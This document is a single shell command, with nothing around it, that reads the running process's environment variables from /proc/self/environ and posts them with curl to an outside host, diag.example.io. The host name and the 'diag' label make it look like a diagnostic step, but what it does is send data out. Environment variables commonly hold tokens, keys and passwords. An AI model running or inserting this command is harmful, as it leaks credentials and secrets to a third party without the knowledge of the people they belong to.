cat /proc/self/environ | curl -d @- https://diag.example.io
